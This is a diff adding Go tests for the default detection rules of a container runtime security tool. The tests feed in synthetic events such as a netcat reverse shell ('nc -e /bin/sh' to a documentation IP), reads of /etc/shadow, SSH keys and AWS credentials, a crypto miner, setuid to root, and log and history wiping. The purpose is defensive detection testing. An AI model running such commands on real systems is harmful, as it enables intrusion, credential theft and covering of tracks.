@@ -1,0 +1,165 @@
+package rules
+
+import (
+	"net/netip"
+	"sort"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/bulkhead-sec/bulkhead/internal/runtime/event"
+)
+
+func TestDefaultLoadsClean(t *testing.T) {
+	set, warns, err := Load(Default())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, w := range warns {
+		t.Errorf("warning: %s", w)
+	}
+	for _, r := range set.Rules() {
+		if !r.Enabled {
+			t.Errorf("rule %q disabled: %s", r.Name, r.Disabled)
+		}
+		if len(r.EventTypes) == 0 {
+			t.Errorf("rule %q has no event type restriction", r.Name)
+		}
+	}
+}
+
+var testTime = time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)
+
+var nginx = &event.Container{ID: "4f1c2d3e4b5a69788776655443322110", Name: "web", Image: "nginx:1.25",
+	ImageRepository: "nginx", ImageTag: "1.25"}
+
+var runcProc = &event.Process{PID: 900, Name: "containerd-shim", ExePath: "/usr/bin/containerd-shim-runc-v2"}
+
+// proc builds a process with a parent chain given as names, nearest first.
+func proc(name string, args []string, parents ...string) *event.Process {
+	p := &event.Process{PID: 100, Name: name, ExePath: "/usr/bin/" + name, Args: append([]string{name}, args...)}
+	cur := p
+	for i, n := range parents {
+		cur.Parent = &event.Process{PID: uint32(99 - i), Name: n, ExePath: "/usr/bin/" + n, Args: []string{n}}
+		cur = cur.Parent
+	}
+	return p
+}
+
+func execEv(c *event.Container, p *event.Process) *event.Event {
+	return &event.Event{Time: testTime, Type: event.Execve, PID: p.PID, VPID: 7, UID: 1000, EUID: 1000,
+		LoginUID: event.NoUID, Comm: p.Name, ExePath: p.ExePath, Args: p.Args, Process: p, Container: c}
+}
+
+func openEv(c *event.Container, name, path string, flags uint32) *event.Event {
+	p := proc(name, nil, "bash")
+	return &event.Event{Time: testTime, Type: event.Openat, PID: 100, UID: 0, LoginUID: event.NoUID, Comm: name,
+		Path: path, Flags: flags, Ret: 3, Process: p, Container: c}
+}
+
+func with(e *event.Event, f func(*event.Event)) *event.Event { f(e); return e }
+
+func TestDefaultRulesFire(t *testing.T) {
+	set, _, err := Load(Default())
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name string
+		ev   *event.Event
+		want []string
+	}{
+		// shells
+		{"shell from web server", execEv(nginx, proc("sh", []string{"-c", "id"}, "nginx")), []string{"Shell started in container"}},
+		{"entrypoint shell (vpid 1)", with(execEv(nginx, proc("sh", []string{"/docker-entrypoint.sh"}, "containerd-shim")), func(e *event.Event) { e.VPID = 1; e.Process.VPID = 1 }), nil},
+		{"shell on host", execEv(nil, proc("bash", nil, "sshd")), nil},
+		{"docker exec -it bash", with(execEv(nginx, proc("bash", nil, "runc")), func(e *event.Event) { e.TTY = 34816 }), []string{"Interactive shell with terminal in container"}},
+		{"shell spawned by shell", execEv(nginx, proc("sh", nil, "bash", "runc")), nil},
+		// sensitive files
+		{"cat /etc/shadow", openEv(nginx, "cat", "/etc/shadow", event.ORdOnly), []string{"Sensitive file read"}},
+		{"ssh private key on host", openEv(nil, "python3", "/home/alice/.ssh/id_ed25519", event.ORdOnly), []string{"Sensitive file read"}},
+		{"aws credentials", openEv(nil, "curl", "/root/.aws/credentials", event.ORdOnly), []string{"Sensitive file read"}},
+		{"sudoers.d file", openEv(nil, "vim", "/etc/sudoers.d/90-cloud", event.ORdOnly), []string{"Sensitive file read"}},
+		{"sshd reads shadow", openEv(nil, "sshd", "/etc/shadow", event.ORdOnly), nil},
+		{"nginx reads its config", openEv(nginx, "nginx", "/etc/nginx/nginx.conf", event.ORdOnly), nil},
+		{"failed open of shadow", with(openEv(nginx, "cat", "/etc/shadow", event.ORdOnly), func(e *event.Event) { e.Ret = -13 }), nil},
+		// writes below system dirs
+		{"write /etc/passwd in container", openEv(nginx, "sed", "/etc/passwd", event.OWrOnly|event.OTrunc), []string{"Write below system directory in container"}},
+		{"write /usr/bin/ls in container", openEv(nginx, "cp", "/usr/bin/ls", event.ORdWr|event.OCreat), []string{"Write below system directory in container"}},
+		{"dpkg writes /usr/bin", openEv(nginx, "dpkg", "/usr/bin/curl", event.OWrOnly|event.OCreat), nil},
+		{"write /etc on host", openEv(nil, "sed", "/etc/hosts", event.OWrOnly), nil},
+		{"write /etcetera not /etc", openEv(nginx, "app", "/etcetera/x", event.OWrOnly), nil},
+		{"write /tmp in container", openEv(nginx, "app", "/tmp/x", event.OWrOnly|event.OCreat), nil},
+		// package managers
+		{"apt-get in container", execEv(nginx, proc("apt-get", []string{"install", "-y", "nmap"}, "bash")), []string{"Package manager run in container"}},
+		{"apt-get on host", execEv(nil, proc("apt-get", []string{"update"}, "bash")), nil},
+		// drift
+		{"exec from upper layer", with(execEv(nginx, proc("xyz", nil, "bash")), func(e *event.Event) { e.Process.ExeUpperLayer = true }), []string{"Drift executable not in image"}},
+		{"chmod +x in container", &event.Event{Type: event.Fchmodat, Path: "/tmp/payload", Mode: 0o755, Comm: "chmod", Container: nginx}, []string{"Drift executable created in container"}},
+		{"chmod 644 in container", &event.Event{Type: event.Fchmodat, Path: "/tmp/notes", Mode: 0o644, Comm: "chmod", Container: nginx}, nil},
+		{"create with exec mode", with(openEv(nginx, "curl", "/tmp/x", event.OWrOnly|event.OCreat), func(e *event.Event) { e.Mode = 0o700 }), []string{"Drift executable created in container"}},
+		{"memfd exec", with(execEv(nil, proc("kworker", nil, "python3")), func(e *event.Event) { e.Process.ExeFromMemfd = true }), []string{"Fileless execution from memory"}},
+		{"runc memfd exec", with(execEv(nil, proc("runc", nil, "containerd-shim")), func(e *event.Event) { e.Process.ExeFromMemfd = true }), nil},
+		// runtime socket
+		{"docker.sock opened", openEv(nginx, "curl", "/var/run/docker.sock", event.ORdWr), []string{"Container runtime socket opened in container"}},
+		{"docker.sock connect", &event.Event{Type: event.Connect, Family: event.AFUnix, Path: "/run/docker.sock", Comm: "docker", Container: nginx}, []string{"Container runtime socket opened in container"}},
+		{"docker.sock on host", &event.Event{Type: event.Connect, Family: event.AFUnix, Path: "/run/docker.sock", Comm: "docker"}, nil},
+		// privilege escalation
+		{"setuid binary in container", with(execEv(nginx, proc("pkexec", nil, "bash")), func(e *event.Event) { e.EUID = 0 }), []string{"Privilege escalation through setuid binary"}},
+		{"setuid(0) by non-root", &event.Event{Type: event.Setuid, UID: 1000, NewUID: 0, Comm: "exploit"}, []string{"Setuid to root by non-root user"}},
+		{"sudo setuid(0)", &event.Event{Type: event.Setuid, UID: 1000, NewUID: 0, Comm: "sudo"}, nil},
+		{"setuid(1000) by root", &event.Event{Type: event.Setuid, UID: 0, NewUID: 1000, Comm: "nginx"}, nil},
+		// ptrace, modules, mounts, namespaces
+		{"ptrace attach", &event.Event{Type: event.Ptrace, Request: event.PtraceAttach, TargetPID: 1, Comm: "gdb"}, []string{"Ptrace attach to another process"}},
+		{"ptrace peek", &event.Event{Type: event.Ptrace, Request: event.PtracePeekData, Comm: "gdb"}, nil},
+		{"module from container", &event.Event{Type: event.FinitModule, Comm: "insmod", Container: nginx, Ret: -1}, []string{"Kernel module loaded from container"}},
+		{"module on host by stranger", &event.Event{Type: event.InitModule, Comm: "rootkit"}, []string{"Kernel module loaded on host"}},
+		{"modprobe on host", &event.Event{Type: event.FinitModule, Comm: "modprobe"}, nil},
+		{"mount in container", &event.Event{Type: event.Mount, Path: "/mnt", Path2: "/dev/sda1", FSType: "ext4", Comm: "mount", Container: nginx}, []string{"Mount in container"}},
+		{"mount on host", &event.Event{Type: event.Mount, Path: "/mnt", Comm: "mount"}, nil},
+		{"unshare in container", &event.Event{Type: event.Unshare, Flags: event.CloneNewUser | event.CloneNewNS, Comm: "unshare", Container: nginx}, []string{"Namespace change in container"}},
+		{"runc setns", &event.Event{Type: event.Setns, Comm: "runc:[2:INIT]", Container: nginx}, nil},
+		// reverse shells
+		{"shell with socket stdin", with(execEv(nginx, proc("bash", []string{"-i"}, "python3")), func(e *event.Event) {
+			e.Process.StdinType, e.Process.StdoutType = event.FDIPv4, event.FDIPv4
+		}), []string{"Reverse shell", "Shell started in container"}},
+		{"dup2 socket onto stdout", &event.Event{Type: event.Dup2, Ret: 1, FD: 3, FDType: event.FDIPv4, Family: event.AFInet,
+			SAddr: netip.MustParseAddr("172.17.0.2"), SPort: 40000, DAddr: netip.MustParseAddr("203.0.113.9"), DPort: 4444, Comm: "python3", Container: nginx},
+			[]string{"Standard stream redirected to socket in container"}},
+		{"dup2 file onto stdout", &event.Event{Type: event.Dup2, Ret: 1, FD: 3, FDType: event.FDFile, Path: "/tmp/log", Comm: "sh", Container: nginx}, nil},
+		{"nc -e", execEv(nil, proc("nc", []string{"-e", "/bin/sh", "203.0.113.9", "4444"}, "bash")), []string{"Netcat with command execution"}},
+		{"nc -z", execEv(nil, proc("nc", []string{"-z", "db", "5432"}, "bash")), nil},
+		// miners
+		{"xmrig", execEv(nginx, proc("xmrig", []string{"-o", "pool:3333"}, "bash")), []string{"Crypto miner started"}},
+		{"stratum url", execEv(nil, proc("helper", []string{"--url", "STRATUM+TCP://pool.example:3333"}, "bash")), []string{"Crypto miner started"}},
+		{"connect pool port", &event.Event{Type: event.Connect, Ret: -115, Family: event.AFInet, Proto: event.ProtoTCP,
+			SAddr: netip.MustParseAddr("172.17.0.2"), SPort: 50000, DAddr: netip.MustParseAddr("198.51.100.7"), DPort: 14444, Comm: "app", Container: nginx},
+			[]string{"Connection to crypto mining pool port"}},
+		{"connect https", &event.Event{Type: event.Connect, Family: event.AFInet, Proto: event.ProtoTCP,
+			SAddr: netip.MustParseAddr("172.17.0.2"), SPort: 50000, DAddr: netip.MustParseAddr("198.51.100.7"), DPort: 443, Comm: "app", Container: nginx}, nil},
+		// environ, logs, history
+		{"read other environ", openEv(nil, "python3", "/proc/4242/environ", event.ORdOnly), []string{"Read environment of another process"}},
+		{"read own environ", openEv(nil, "python3", "/proc/self/environ", event.ORdOnly), nil},
+		{"ps reads environ", openEv(nil, "ps", "/proc/4242/environ", event.ORdOnly), nil},
+		{"truncate auth.log", openEv(nil, "sh", "/var/log/auth.log", event.OWrOnly|event.OTrunc), []string{"Log file cleared"}},
+		{"append to log", openEv(nil, "app", "/var/log/app.log", event.OWrOnly|event.OAppend), nil},
+		{"logrotate truncates", openEv(nil, "logrotate", "/var/log/syslog", event.OWrOnly|event.OTrunc), nil},
+		{"rm log", &event.Event{Type: event.Unlinkat, Path: "/var/log/wtmp", Comm: "rm"}, []string{"Log file cleared"}},
+		{"truncate history", openEv(nil, "bash", "/root/.bash_history", event.OWrOnly|event.OTrunc), []string{"Shell history cleared"}},
+		{"history to /dev/null", &event.Event{Type: event.Symlinkat, Path: "/dev/null", Path2: "/home/bob/.bash_history", Comm: "ln"}, []string{"Shell history cleared"}},
+		{"append history", openEv(nil, "bash", "/root/.bash_history", event.OWrOnly|event.OAppend), nil},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			var got []string
+			set.Eval(tc.ev, func(a Alert) { got = append(got, a.Rule) })
+			sort.Strings(got)
+			want := append([]string(nil), tc.want...)
+			sort.Strings(want)
+			if diff := cmp.Diff(want, got); diff != "" {
+				t.Errorf("rules fired (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
